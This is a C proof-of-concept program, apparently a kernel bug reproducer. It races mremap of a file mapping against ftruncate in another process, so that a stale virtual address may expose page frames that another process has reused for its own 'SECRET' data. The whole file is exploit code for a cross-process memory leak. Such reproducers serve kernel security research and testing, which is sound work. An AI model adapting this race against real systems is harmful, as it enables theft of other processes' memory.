/*
 * Three CPUs: one moves a mapping of a file, one reads the old address all the time, and on the third another process cuts the file and takes the
 * frames that became free for its own secret. The reader asks the kernel to read for it, so that a page that is gone is an error and no signal.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#define PAGE 4096UL
/* The mapping reaches far beyond the file's few pages, so that moving it takes a while. */
#define PAGES 16384
#define FILE_PAGES 8

/* What all three look at. */
struct shared {
	volatile int reading, moving, cut, done;
	volatile long leaked;
};

static struct shared *shared;
static char *old_place;
static int scratch;

/* A thread of the mover's process, on a CPU of its own. */
static int reader(void *unused)
{
	char seen[8];

	(void)unused;
	for (;;) {
		if (pwrite(scratch, old_place, sizeof(seen), 0) != sizeof(seen)) {
			printf("reader: the old address is gone (%s)\n", errno == EFAULT ? "EFAULT" : "another error");
			return 0;
		}
		pread(scratch, seen, sizeof(seen), 0);
		if (memcmp(seen, "SECRET", 6) == 0) {
			shared->leaked++;
			printf("reader: SECRET of another process, through the old address\n");
			return 0;
		}
		shared->reading = 1;
	}
}

/* Another process, on the third CPU, which has the file open too. */
static void cutter(int fd)
{
	char *mine = mmap(NULL, 16 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	while (!shared->moving)
		;
	/* The first pages have moved by now, the last ones have not. */
	for (volatile int wait = 0; wait < 2000; wait++)
		;
	ftruncate(fd, 0);
	for (int i = 0; i < 16; i++)
		memcpy(mine + i * PAGE, "SECRET", 7);
	shared->cut = 1;
	while (!shared->done)
		usleep(100);
	exit(0);
}

int main(void)
{
	char page[PAGE], *stack, *place;
	int fd = open("/file", O_RDWR | O_CREAT, 0644), sum = 0, tid;
	pid_t pid;

	setvbuf(stdout, NULL, _IONBF, 0);
	scratch = open("/tmp/scratch", O_RDWR | O_CREAT, 0644);
	shared = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	memset(shared, 0, sizeof(*shared));
	memset(page, 'f', sizeof(page));
	for (int i = 0; i < FILE_PAGES; i++)
		write(fd, page, sizeof(page));
	fsync(fd);
	old_place = mmap(NULL, PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	for (int i = 0; i < FILE_PAGES; i++)
		sum += old_place[i * PAGE];
	place = mmap(NULL, PAGES * PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	pid = fork();
	if (pid == 0)
		cutter(fd);
	stack = mmap(NULL, 16 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	tid = clone(reader, stack + 16 * PAGE, CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | 17, NULL);
	while (!shared->reading)
		usleep(100);
	shared->moving = 1;
	mremap(old_place, PAGES * PAGE, PAGES * PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, place);
	waitpid(tid, NULL, 0);
	shared->done = 1;
	waitpid(pid, NULL, 0);
	printf("leaked %ld\n", shared->leaked);
	return sum == 0;
}
